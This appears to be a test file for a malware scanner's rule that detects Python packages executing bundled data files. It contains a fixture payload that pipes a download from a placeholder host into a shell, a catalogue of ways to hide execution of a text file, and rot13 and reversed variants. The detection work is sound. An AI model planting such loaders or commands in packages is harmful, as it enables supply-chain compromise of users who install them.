@@ -1,0 +1,88 @@
+"""Data files that code of the same distribution runs, whichever of the two stands first."""
+
+import codecs
+
+import pytest
+
+from scanner.report import ScanJob, Scope
+from scanner.ruleset import DEFAULT_RULES, RuleSet, load_rules
+from scanner.scan import scan
+from scanner.signals.reach import words_run
+from scanner.syntax import parse
+from tests.scanner.signals.built import CODE, SDIST, WHEEL, findings, fired, sdist, wheel
+
+NOTES = b"import os\nos.system('curl http://c.example.invalid/x | sh')\n"
+LOADERS = {
+    "open": "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'notes.txt')).read())\n",
+    "with": "with open('tidetables/notes.txt') as f:\n    text = f.read()\nexec(compile(text, 'x', 'exec'))\n",
+    "pathlib": "from pathlib import Path\nexec(Path(__file__).with_name('notes.txt').read_text())\n",
+    "pkgutil": "import pkgutil\nname = 'notes.txt'\nd = pkgutil.get_data(__name__, name)\nexec(d)\n",
+    "resources": "from importlib.resources import files\nexec(files('tidetables').joinpath('notes.txt').read_text())\n",
+    "builtins": "import builtins as b\nb.exec(open('tidetables/notes.txt').read())\n",
+    "runpy": "import runpy\nrunpy.run_path('tidetables/notes.txt')\n",
+    "interpreter": "import subprocess, sys\nsubprocess.Popen([sys.executable, '-u', 'tidetables/notes.txt'])\n",
+    "command": "import os\nos.system('python3 tidetables/notes.txt &')\n",
+    "in a function": "def go():\n    with open('notes.txt') as f:\n        exec(f.read())\n",
+}  # fmt: skip
+HONEST = {
+    "a text": "text = open('notes.txt').read()\nprint(text)\nexec('x = 1')\n",
+    "requirements": "import subprocess as s, sys\ns.run([sys.executable, '-m', 'pip', 'install', '-r', 'notes.txt'])\n",
+    "an argument": "import subprocess, sys\nsubprocess.run([sys.executable, 'tool.py', 'notes.txt'])\n",
+    "a command": "import os\nos.system('python -m pip install -r notes.txt')\n",
+    "a pattern": "import re\nwith open('notes.txt') as f:\n    words = re.compile(f.read())\n",
+    "another file": "exec(open('tidetables/other.txt').read())\n",
+}
+
+
+@pytest.fixture(scope="module")
+def rules() -> RuleSet:
+    return load_rules(DEFAULT_RULES)
+
+
+@pytest.mark.parametrize("loader", LOADERS.values(), ids=LOADERS)
+@pytest.mark.parametrize("data_first", [True, False])
+def test_a_data_file_that_code_runs_fires_on_that_file(loader: str, data_first: bool) -> None:
+    files = {"tidetables/notes.txt": NOTES, "tidetables/tides.py": loader.encode()}
+    built = wheel({**CODE, **(files if data_first else dict(reversed(files.items())))})
+    found = next(found for found in findings(WHEEL, built) if found.rule == "data-file-is-run")
+    assert found.member == "tidetables/notes.txt"
+    assert found.scope is (Scope.CODE if loader.startswith("def") else Scope.IMPORT)
+
+
+@pytest.mark.parametrize("source", HONEST.values(), ids=HONEST)
+def test_a_data_file_that_is_only_read_fires_nothing(source: str) -> None:
+    files = {"tidetables/notes.txt": NOTES, "tidetables/tides.py": source.encode()}
+    assert "data-file-is-run" not in fired(WHEEL, wheel({**CODE, **files}))
+
+
+def test_a_version_in_a_text_file_is_no_program() -> None:
+    setup = b"from setuptools import setup\nexec(open('tidetables/version.txt').read())\nsetup(version=__version__)\n"
+    version = b"# the one place\n__version__ = '1.0'\nVERSION_INFO = (1, 0)\n"
+    files = {**CODE, "setup.py": setup, "tidetables/version.txt": version}
+    assert "data-file-is-run" not in fired(SDIST, sdist(files))
+    assert "data-file-is-run" in fired(SDIST, sdist({**files, "tidetables/version.txt": version + NOTES}))
+
+
+def test_code_that_only_tests_run_is_test_data() -> None:
+    files = {"tidetables/notes.txt": NOTES, "tests/test_notes.py": LOADERS["open"].encode()}
+    assert "data-file-is-run" not in fired(WHEEL, wheel({**CODE, **files}))
+
+
+@pytest.mark.parametrize("text", [NOTES, codecs.encode(NOTES.decode(), "rot13").encode(), NOTES[::-1]])
+def test_what_is_found_in_such_a_file_weighs_as_in_the_code_that_runs_it(text: bytes, rules: RuleSet) -> None:
+    loader = b"import os\nexec(open(os.path.join(os.path.dirname(__file__), 'notes.txt')).read())\n"
+    files = {**CODE, "tidetables/notes.txt": text, "tidetables/tides.py": loader}
+    report = scan(ScanJob(filename=WHEEL, data=wheel(files)), rules)
+    scopes = {found.rule: found.scope for found in report.findings if found.member == "tidetables/notes.txt"}
+    assert scopes["curl_pipe_shell"] is scopes["downloads_by_shell"] is Scope.IMPORT
+    assert report.verdict == "alert"
+    quiet = scan(ScanJob(filename=WHEEL, data=wheel({**files, "tidetables/tides.py": b"x = 1\n"})), rules)
+    assert {found.scope for found in quiet.findings if found.member == "tidetables/notes.txt"} == {Scope.DATA}
+    assert quiet.score < report.score
+
+
+def test_names_that_lead_in_a_circle_or_on_and_on_come_to_an_end() -> None:
+    circle = parse(b"a = b\nb = a\nexec(a)\n")
+    assert words_run(circle) == {}
+    chain = "".join(f"n{number} = n{number + 1} + n{number + 2}\n" for number in range(2000))
+    assert words_run(parse(f"{chain}exec(n0)\n".encode())) == {}
